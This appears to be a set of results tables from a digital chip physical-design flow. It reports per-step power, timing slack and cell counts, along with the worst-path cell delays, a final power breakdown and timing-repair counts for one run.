step | power, mW | TNS (ps) | std cells | hold WS (ps) | setup slack [ps]
3_3_place_gp | 6.81 | -216 | 1426 | 432 | -94.1
3_5_place_dp | 6.92 | -399 | 1426 | 443 | -136
2_1_floorplan | 6.16 | -273800 | 906 | 423 | -1030
4_1_cts | 10.3 | 0 | 1477 | 102 | 8.12
5_1_grt | 10.8 | -7.05 | 1479 | 115 | -3.79
6_report | 10.2 | 0 | 1479 | 127 | 124
## run 3: worst max-delay path, delay by kind of cell (launching register included)
| family | cells | cell delay, ps |
|---|---|---|
| AOI/OAI and AO/OA | 5 | 1570 |
| and+or+nand+nor | 3 | 440 |
| xor gates and xnor gates | 1 | 170 |
| buffers and inverters | 1 | 160 |
| DFF | 1 | 390 |
## run 3: report_power, final
part | internal, mW | total (mW) | switching, mW
clock network | 1.92 | 3.34 | 1.42
logic | 1.12 | 2.01 | 0.886
registers | 4.38 | 4.86 | 0.478
## run 3: timing repair
item,CTS,global route
setup buffers,0,1
pin swaps,0,11
endpoints found under the setup margin,5,5
cloned,0,0
gates resized for setup,2,10
hold buffers,2,0
endpoints found under the hold margin,18,0
